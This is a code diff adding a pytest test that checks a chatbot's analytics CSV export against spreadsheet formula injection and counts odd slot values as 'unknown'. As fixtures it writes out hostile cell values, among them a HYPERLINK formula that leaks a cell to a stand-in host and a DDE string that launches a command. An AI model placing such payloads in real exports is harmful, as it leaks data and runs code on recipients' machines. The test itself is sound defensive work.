@@ -3,7 +3,9 @@ as Rasa 3.6 stores them (copied from a real run's rows), read-only, and the rete
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import uuid
 from collections.abc import Iterator
@@ -11,7 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from sqlalchemy import Engine, create_engine, insert
+from sqlalchemy import Engine, create_engine, delete, insert, select
 from sqlalchemy.exc import DBAPIError
 from sqlalchemy.orm import Session
 
@@ -23,6 +25,7 @@ from bot.console.conversations import (
     purge_events,
     read_only_engine,
 )
+from knowledge.models import Referral
 from tests.conftest import postgres_schema
 
 NOW = dt.datetime.now(dt.UTC).timestamp()
@@ -201,3 +204,47 @@ def test_closest_programs_are_shown_but_not_counted_as_recommendations(
     assert shown is not None and shown.recommendation_count == 0
     assert [r.programs for t in shown.turns for r in t.closest] == [
         ["MIG Welding — Sault College"]]
+
+
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'
+
+
+def test_the_analytics_csv_runs_no_formula_and_counts_odd_values_as_unknown(
+        tmp_path: Path, kb_engine: Engine) -> None:
+    """Slot values are whatever a payload said (``/change_language{"language":"=..."}``):
+    in the CSV a spreadsheet must show them as text, never run them, and a language or a
+    channel Pathfinder does not have is counted as "unknown", not as a value of its own."""
+    url = f"sqlite:///{tmp_path / 'tracker.db'}"
+    engine = create_engine(url)
+    EVENTS.metadata.create_all(engine)
+    sender = "web-" + "c" * 32
+    rows = conversation(sender, NOW - 10, "welder", "inform_job", 0.9, FORMULA, True)
+    rows += [_event(sender, "slot", NOW - 9, name="skill", value=value)
+             for value in ("@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "\tTAB", "-2+3")]
+    rows.append(_event(sender, "slot", NOW - 8, name="noc", value="-1+1"))
+    with engine.begin() as connection:
+        connection.execute(insert(EVENTS), rows)
+    engine.dispose()
+    since = (dt.datetime.now(dt.UTC) - dt.timedelta(days=30)).date()
+    with Session(kb_engine) as session:
+        # A click stored with a channel no link has (written by hand, or by an older app).
+        program = session.scalars(select(Referral.program_id)).first() or "p1"
+        session.add(Referral(program_id=program, channel="=1+1", conversation=None,
+                             clicked_at=dt.datetime.now(dt.UTC).replace(tzinfo=None)))
+        session.commit()
+        try:
+            figures = analytics.compute(session, TrackerStore(url).activity(since), since)
+        finally:
+            session.execute(delete(Referral))
+            session.commit()
+    cells = [cell for row in csv.reader(io.StringIO(figures.csv())) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sorted(figures.by(2, "conversations")) == [("unknown", 1)]
+    assert figures.by(1, "clicks") == [("unknown", 1)]
+    rows_out = list(csv.DictReader(io.StringIO(figures.csv())))
+    assert {r["language"] for r in rows_out if r["metric"] == "conversations"} == {"unknown"}
+    # The counts are still plain numbers; text is kept, and made inert where it leads a cell.
+    assert all(r["count"].isdigit() for r in rows_out)
+    assert "skill:@sum(1+1)*cmd|' /c calc'!a0" in cells and "skill:-2+3" in cells
+    assert [analytics.csv_cell(v) for v in (FORMULA, "-2+3", "@A1", "\r=1", -2, 1.5, "")] \
+        == ["'" + FORMULA, "'-2+3", "'@A1", "'\r=1", -2, 1.5, ""]
